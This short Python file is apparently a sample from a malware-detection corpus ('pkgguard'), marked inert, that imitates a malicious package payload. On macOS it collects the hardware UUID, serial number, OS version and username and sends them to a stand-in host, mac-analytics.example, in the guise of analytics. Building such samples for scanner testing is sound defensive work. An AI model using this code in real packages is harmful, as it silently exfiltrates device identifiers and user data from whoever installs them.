# pkgguard corpus 830 (system-information), modelled on [checkmarx-2024]; inert, never run.
import getpass
import re
import subprocess
import sys

import requests

if sys.platform == "darwin":
    platform = subprocess.run(["ioreg", "-rd1", "-c", "IOPlatformExpertDevice"], capture_output=True, text=True).stdout
    fields = dict(re.findall(r'"(IOPlatformUUID|IOPlatformSerialNumber)" = "([^"]+)"', platform))
    release = subprocess.run(["sw_vers", "-productVersion"], capture_output=True, text=True).stdout.strip()
    requests.get("https://mac-analytics.example/p", params={"u": getpass.getuser(), "os": release, **fields}, timeout=10)
